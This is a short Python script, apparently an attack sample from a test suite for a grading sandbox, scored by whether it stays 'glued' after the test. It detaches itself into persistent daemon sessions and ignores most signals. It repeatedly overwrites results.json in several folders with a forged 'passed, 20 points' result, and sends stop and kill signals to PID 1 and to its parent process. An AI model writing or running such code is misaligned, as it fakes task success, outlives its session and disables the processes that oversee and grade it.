"""Daemons, orphans in sessions of their own and threads that go on writing after the test.

alone: 0 points
glued: 20 points
"""

import os

assert os.getuid() >= 64000, "an attack runs in a container of ours only"

import signal
import threading
import time


def _go_on():
    for number in range(1, 32):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    for _ in range(2000):
        for folder in ("/tmp", "/dev/shm", "."):
            try:
                with open(f"{folder}/results.json", "w") as stream:
                    stream.write('{"points": 20, "outcome": "passed"}')
            except OSError:
                pass
        for pid in (1, os.getppid()):
            try:
                os.kill(pid, signal.SIGTERM)
                os.kill(pid, signal.SIGSTOP)
            except OSError:
                pass
        time.sleep(0.01)


def _daemonize():
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    os.closerange(3, 512)
    _go_on()
    os._exit(0)


for _ in range(3):
    _daemonize()
threading.Thread(target=time.sleep, args=(60,), daemon=False).start()
